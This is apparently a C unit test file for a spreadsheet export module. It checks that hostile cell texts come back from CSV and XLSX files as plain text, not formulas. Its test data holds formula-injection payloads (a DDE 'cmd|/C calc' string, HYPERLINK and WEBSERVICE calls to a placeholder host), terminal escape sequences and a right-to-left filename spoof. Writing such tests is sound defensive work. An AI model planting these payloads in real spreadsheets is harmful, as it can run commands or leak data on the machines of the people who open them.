/*
 * What is written into files for spreadsheets: 120 hostile texts in each kind
 * of column come back as what they were, in CSV by the reader of the sqlite3
 * program, in a workbook by unzip and a reader of our own; none is a formula.
 */
#include <math.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>
#include "common/clock.h"
#include "common/digest.h"
#include "common/fsutil.h"
#include "common/i18n.h"
#include "common/json.h"
#include "common/text.h"
#include "tests/lib/tmp.h"
#include "tui/export/sheet.h"

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

#define assert_ok(call)                                                        \
	do {                                                                   \
		int rc_ = (call);                                              \
		if (rc_ != 0)                                                  \
			fail_msg("%s: %d: %s", #call, rc_, err.text);          \
	} while (0)

/* ---- 120 texts: each start with each rest ---- */

static const char *const starts[] = {
    "=", "+", "-", "@", "\t", "\r", "'", "\xef\xbc\x9d"};
static const char *const rests[] = {
    "1+1",
    "cmd|'/C calc'!A0",
    "HYPERLINK(\"http://example.invalid/?\"&A1,\"here\")",
    "WEBSERVICE(\"http://example.invalid\")",
    "=2",
    "'=2",
    "\n=3",
    "a,b;c\td",
    "say \"\"\"yes\"\"\"",
    "two\nlines\r\nthree",
    "_x0041_ and _x003D_1",
    "<v>1</v></c>&amp;]]>",
    "\x1b]0;title\x07\xc2\x9b"
    "31m",
    "\xe2\x80\xae"
    "fdp.exe \xf0\x9f\x91\x8d",
    "",
};
#define TEXTS (COUNT(starts) * COUNT(rests))

static void
text_of(size_t i, char out[256])
{
	str_format(out, 256, "%s%s", starts[i / COUNT(rests)],
	    rests[i % COUNT(rests)]);
}

static const struct sheet_column columns[] = {
    {"name", SHEET_TEXT},
    {"state", SHEET_WORD},
    {"tags", SHEET_WORDS},
    {"value", SHEET_WORDS}, /* an array of one */
    {"rows", SHEET_WHOLE},
    {"confidence", SHEET_REAL},
    {"at", SHEET_TIME},
    {"active_s", SHEET_SPAN},
    {"rating", SHEET_CENTS},
    {"notes", SHEET_TEXT},
};
#define TEXT_COLUMNS 4 /* the first ones show a text; so does the last */

static bool
shows(size_t column)
{
	return column < TEXT_COLUMNS || column == COUNT(columns) - 1;
}

static void
row_json(size_t i, struct str *json)
{
	struct json_out w;
	char text[256];

	text_of(i, text);
	str_clear(json);
	json_out_init(&w, json);
	json_out_object(&w, NULL);
	for (size_t c = 0; c < COUNT(columns); c++) {
		if (c == 3) {
			json_out_array(&w, columns[c].name);
			json_out_string(&w, NULL, text);
			json_out_end(&w, ']');
		} else {
			json_out_string(&w, columns[c].name, text);
		}
	}
	json_out_end(&w, '}');
}

static void
write_texts(const char *path, enum sheet_format format)
{
	struct sheet_options o = {.format = format,
	    .path = path,
	    .title = "Prueba",
	    .noun = "ticket",
	    .columns = columns,
	    .count = COUNT(columns),
	    .zone = zone_utc()};
	struct err err = ERR_INIT;
	struct str json = STR_INIT;
	struct sheet *s;

	assert_ok(sheet_open(&o, &s, &err));
	for (size_t i = 0; i < TEXTS; i++) {
		row_json(i, &json);
		assert_ok(sheet_row(s, json.s, json.len, &err));
	}
	assert_int_equal(sheet_rows(s), TEXTS);
	assert_ok(sheet_finish(s, &err));
	assert_int_not_equal(access(path, F_OK), 0);
	assert_ok(sheet_keep(&s, &err));
	assert_null(s);
	str_free(&json);
}

/* What a program prints. */
static void
output(const char *command, struct str *out)
{
	FILE *p = popen(command, "r");
	char part[4096];
	size_t n;

	assert_non_null(p);
	str_clear(out);
	while ((n = fread(part, 1, sizeof(part), p)) > 0)
		str_addn(out, part, n);
	if (pclose(p) != 0)
		fail_msg("%s: %s", command, out->s);
}

static void
expected(size_t i, struct str *out)
{
	char text[256];

	text_of(i, text);
	str_clear(out);
	text_safe(out, text, strlen(text), TEXT_BLOCK);
}

/* As sheet.h says: what was put before it is taken off. */
static const char *
without_guard(const char *cell)
{
	static const char *const dangerous[] = {"=", "+", "-", "@",
	    "\xef\xbc\x9d", "\xef\xbc\x8b", "\xef\xbc\x8d", "\xef\xbc\xa0"};
	const char *at = cell + strspn(cell, " '\n");

	for (size_t i = 0; cell[0] == '\'' && i < COUNT(dangerous); i++)
		if (strncmp(at, dangerous[i], strlen(dangerous[i])) == 0)
			return cell + 1;
	return cell;
}

static void
sheet__csv__comes_back_and_is_no_formula(void **state)
{
	struct tmp tmp;
	struct str out = STR_INIT, want = STR_INIT;
	char path[TMP_SIZE], command[1024];
	char *at;

	(void)state;
	tmp_make(&tmp);
	str_copy(path, sizeof(path), tmp_path(&tmp, "a.csv"));
	write_texts(path, SHEET_CSV);
	str_format(command, sizeof(command),
	    "sqlite3 :memory: 'CREATE TABLE t(a,b,c,d,e,f,g,h,i,j)'"
	    " '.mode csv' '.import --skip 1 %s t' '.mode list'"
	    " \"SELECT hex(a)||' '||hex(b)||' '||hex(c)||' '||hex(d)||"
	    "' '||hex(j)||'|'||e||f||g||h||i FROM t ORDER BY rowid\"",
	    path);
	output(command, &out);
	at = out.s;
	for (size_t i = 0; i < TEXTS; i++) {
		expected(i, &want);
		for (size_t c = 0; c < TEXT_COLUMNS + 1; c++) {
			char cell[1024] = "";
			size_t n = strcspn(at, " |");

			assert_true(n / 2 < sizeof(cell));
			assert_true(n == 0 ||
				    hex_decode((uint8_t *)cell, n / 2, at, n));
			cell[n / 2] = '\0';
			if (cell[0] != '\0' &&
			    strchr("=+-@\t\r", cell[0]) != NULL)
				fail_msg("a formula: %s", cell);
			assert_string_equal(without_guard(cell), want.s);
			at += n + 1;
		}
		assert_int_equal(*at, '\n'); /* nothing in the other columns */
		at++;
	}
	assert_int_equal(*at, '\0');
	str_free(&out);
	str_free(&want);
	tmp_remove(&tmp);
}

/* ---- a workbook, read again ---- */

/* The text of XML up to the end of an element, with its entities. */
static void
add_xml(const char *from, const char *to, struct str *out)
{
	static const struct {
		const char *name, *text;
	} entities[] = {{"&lt;", "<"}, {"&gt;", ">"}, {"&amp;", "&"},
	    {"&quot;", "\""}, {"&apos;", "'"}};

	while (from < to) {
		size_t k = 0;

		while (
		    k < COUNT(entities) && strncmp(from, entities[k].name,
					       strlen(entities[k].name)) != 0)
			k++;
		if (k < COUNT(entities)) {
			str_add(out, entities[k].text);
			from += strlen(entities[k].name);
		} else {
			str_addc(out, *from++);
		}
	}
}

/* "_x005F_" stands for "_", as readers of workbooks have it. */
static void
undo_escapes(struct str *text)
{
	char *at;

	while ((at = strstr(text->s, "_x005F_")) != NULL)
		str_remove(text, (size_t)(at - text->s) + 1, 6);
}

/* The cell of that name: its text, or false when there is none. */
static bool
read_cell(const char *xml, const char *name, struct str *out)
{
	char start[32];
	const char *at, *end, *value;

	str_clear(out);
	str_format(start, sizeof(start), "<c r=\"%s\"", name);
	if ((at = strstr(xml, start)) == NULL)
		return false;
	end = strstr(at, "</c>");
	assert_non_null(end);
	if ((value = strstr(at, "<t")) != NULL && value < end) {
		assert_non_null(strstr(at, "t=\"inlineStr\""));
		value = strchr(value + 2, '>') + 1;
		add_xml(value, strstr(value, "</t>"), out);
		undo_escapes(out);
		return true;
	}
	value = strstr(at, "<v>");
	assert_true(value != NULL && value < end);
	str_addn(out, value + 3, strcspn(value + 3, "<"));
	return true;
}

static void
read_book(const char *path, struct str *xml)
{
	char command[512];

	str_format(command, sizeof(command), "unzip -tq %s 2>&1", path);
	output(command, xml);
	str_format(command, sizeof(command), "unzip -l %s", path);
	output(command, xml);
	assert_null(strstr(xml->s, "external"));
	str_format(command, sizeof(command),
	    "unzip -p %s xl/worksheets/sheet1.xml | xmllint --noout - 2>&1",
	    path);
	output(command, xml);
	assert_string_equal(xml->s, "");
	str_format(command, sizeof(command),
	    "unzip -p %s xl/worksheets/sheet1.xml", path);
	output(command, xml);
	assert_null(strstr(xml->s, "<f>"));
	assert_null(strstr(xml->s, "<f "));
	assert_null(strstr(xml->s, "<hyperlink"));
}

static void
sheet__workbook__comes_back_and_is_no_formula(void **state)
{
	struct tmp tmp;
	struct str xml = STR_INIT, want = STR_INIT, cell = STR_INIT;
	char path[TMP_SIZE], name[16];

	(void)state;
	tmp_make(&tmp);
	str_copy(path, sizeof(path), tmp_path(&tmp, "a.xlsx"));
	write_texts(path, SHEET_XLSX);
	read_book(path, &xml);
	for (size_t i = 0; i < TEXTS; i++) {
		expected(i, &want);
		for (size_t c = 0; c < COUNT(columns); c++) {
			str_format(name, sizeof(name), "%c%zu", (char)('A' + c),
			    i + 2);
			if (!shows(c)) {
				assert_false(read_cell(xml.s, name, &cell));
				continue;
			}
			assert_true(read_cell(xml.s, name, &cell));
			assert_string_equal(cell.s, want.s);
		}
	}
	str_free(&xml);
	str_free(&want);
	str_free(&cell);
	tmp_remove(&tmp);
}

/* ---- types ---- */

static const char typed[] =
    "{\"name\":\"Ana\",\"state\":\"open\",\"tags\":\"a, "
    "b\",\"value\":[1,\"x\"],"
    "\"rows\":-42,\"confidence\":0.25,\"at\":\"2026-03-29T01:30:00Z\","
    "\"active_s\":90061,\"rating\":-1250,\"notes\":null}";

static void
write_typed(const char *path)
{
	struct sheet_options o = {.format = sheet_format_of(path),
	    .path = path,
	    .title = "Prueba",
	    .noun = "ticket",
	    .columns = columns,
	    .count = COUNT(columns)};
	struct err err = ERR_INIT;
	struct sheet *s;

	assert_ok(zone_get("Europe/Madrid", &o.zone, &err));
	i18n_set_thread(LANG_ES);
	assert_ok(sheet_open(&o, &s, &err));
	assert_ok(sheet_row(s, typed, strlen(typed), &err));
	assert_ok(sheet_finish(s, &err));
	assert_ok(sheet_keep(&s, &err));
	i18n_set_thread(LANG_EN);
}

static void
sheet__types__are_those_of_the_columns(void **state)
{
	/* 2026-03-29 03:30 in Madrid, the hour after the clock was put on */
	static const char *const cells[] = {"Ana", "abierto", "a, b", "1, x",
	    "-42", "0.25", "46110.145833333336", "1.0423726851851853", "-12.5"};
	struct tmp tmp;
	struct str out = STR_INIT, cell = STR_INIT;
	struct err err = ERR_INIT;
	char path[TMP_SIZE], name[16];

	(void)state;
	tmp_make(&tmp);
	str_copy(path, sizeof(path), tmp_path(&tmp, "t.csv"));
	write_typed(path);
	assert_ok(fs_read(path, 4096, &out, &err));
	assert_non_null(strstr(out.s,
	    "\r\nAna,abierto,\"a, b\",\"1, x\",-42,0.25,2026-03-29 03:30:00,"
	    "25:01:01,-12.50,\r\n"));
	assert_non_null(strstr(out.s, "Nombre,Estado"));
	str_copy(path, sizeof(path), tmp_path(&tmp, "t.xlsx"));
	write_typed(path);
	read_book(path, &out);
	for (size_t c = 0; c < COUNT(cells); c++) {
		str_format(name, sizeof(name), "%c2", (char)('A' + c));
		assert_true(read_cell(out.s, name, &cell));
		if (c < TEXT_COLUMNS)
			assert_string_equal(cell.s, cells[c]);
		else
			assert_true(fabs(strtod(cell.s, NULL) -
					 strtod(cells[c], NULL)) < 1e-9);
	}
	assert_false(read_cell(out.s, "J2", &cell));
	str_copy(path, sizeof(path), tmp_path(&tmp, "t.json"));
	write_typed(path);
	str_clear(&out);
	assert_ok(fs_read(path, 4096, &out, &err));
	assert_non_null(strstr(out.s, typed));
	str_free(&out);
	str_free(&cell);
	tmp_remove(&tmp);
}

/* ---- files ---- */

static void
sheet__a_text_that_is_too_long_for_a_cell__is_cut_with_a_mark(void **state)
{
	static const struct sheet_column one[] = {{"name", SHEET_TEXT}};
	struct sheet_options o = {.format = SHEET_XLSX,
	    .title = "x",
	    .noun = "ticket",
	    .columns = one,
	    .count = 1,
	    .zone = zone_utc()};
	struct str json = STR_INIT, cell = STR_INIT;
	struct err err = ERR_INIT;
	struct tmp tmp;
	char path[TMP_SIZE];
	struct sheet *s;

	(void)state;
	tmp_make(&tmp);
	str_copy(path, sizeof(path), tmp_path(&tmp, "long.xlsx"));
	o.path = path;
	str_add(&json, "{\"name\":\"");
	for (int i = 0; i < 40000; i++)
		str_add(&json, "\xc3\xb1");
	str_add(&json, "\"}");
	assert_ok(sheet_open(&o, &s, &err));
	assert_ok(sheet_row(s, json.s, json.len, &err));
	assert_ok(sheet_finish(s, &err));
	assert_ok(sheet_keep(&s, &err));
	read_book(path, &json);
	assert_true(read_cell(json.s, "A2", &cell));
	assert_int_equal(cell.len, 32766 * 2 + 3);
	assert_string_equal(cell.s + cell.len - 3, "\xe2\x80\xa6");
	str_free(&json);
	str_free(&cell);
	tmp_remove(&tmp);
}

static void
sheet__what_is_there__is_replaced_only_when_that_is_said(void **state)
{
	struct sheet_options o = {.title = "x",
	    .noun = "ticket",
	    .columns = columns,
	    .count = COUNT(columns),
	    .zone = zone_utc()};
	struct err err = ERR_INIT;
	struct tmp tmp;
	struct str out = STR_INIT;
	char path[TMP_SIZE], command[512];
	struct sheet *s;

	(void)state;
	tmp_make(&tmp);
	str_copy(path, sizeof(path), tmp_path(&tmp, "a"));
	o.path = path;
	for (int format = SHEET_CSV; format <= SHEET_XLSX; format++) {
		o.format = (enum sheet_format)format;
		o.replace = false;
		assert_ok(fs_write_atomic(path, "old", 3, 0600, &err));
		assert_int_equal(sheet_open(&o, &s, &err), OD_ECONFLICT);
		assert_null(s);
		o.replace = true;
		assert_ok(sheet_open(&o, &s, &err));
		assert_ok(sheet_row(s, typed, strlen(typed), &err));
		sheet_cancel(&s);
		str_clear(&out);
		assert_ok(fs_read(path, 10, &out, &err));
		assert_string_equal(out.s, "old");
		assert_ok(sheet_open(&o, &s, &err));
		if (format != SHEET_JSON)
			assert_int_equal(sheet_row(s, "[", 1, &err), OD_EDATA);
		sheet_cancel(&s);
	}
	/* Nothing else is left. */
	str_format(command, sizeof(command), "ls -A %s", tmp.dir);
	output(command, &out);
	assert_string_equal(out.s, "a\n");
	o.path = tmp.dir;
	assert_int_equal(sheet_open(&o, &s, &err), OD_ECONFLICT);
	str_format(path, sizeof(path), "%s/none/a.csv", tmp.dir);
	o.path = path;
	assert_int_equal(sheet_open(&o, &s, &err), OD_ENOTFOUND);
	str_free(&out);
	tmp_remove(&tmp);
}

static void
sheet__a_disk_that_is_nearly_full__is_left_alone(void **state)
{
	struct sheet_options o = {.title = "x",
	    .noun = "ticket",
	    .columns = columns,
	    .count = COUNT(columns),
	    .zone = zone_utc()};
	struct err err = ERR_INIT;
	struct tmp tmp;
	char path[TMP_SIZE];
	struct sheet *s;

	(void)state;
	tmp_make(&tmp);
	str_copy(path, sizeof(path), tmp_path(&tmp, "a.csv"));
	o.path = path;
	fs_fake_space((int64_t)4 << 30, (int64_t)100 << 30);
	assert_int_equal(sheet_open(&o, &s, &err), OD_EUNAVAIL);
	fs_fake_space(0, 0);
	assert_ok(sheet_open(&o, &s, &err));
	sheet_cancel(&s);
	tmp_remove(&tmp);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(sheet__csv__comes_back_and_is_no_formula),
	    cmocka_unit_test(sheet__workbook__comes_back_and_is_no_formula),
	    cmocka_unit_test(sheet__types__are_those_of_the_columns),
	    cmocka_unit_test(
		sheet__a_text_that_is_too_long_for_a_cell__is_cut_with_a_mark),
	    cmocka_unit_test(
		sheet__what_is_there__is_replaced_only_when_that_is_said),
	    cmocka_unit_test(sheet__a_disk_that_is_nearly_full__is_left_alone),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
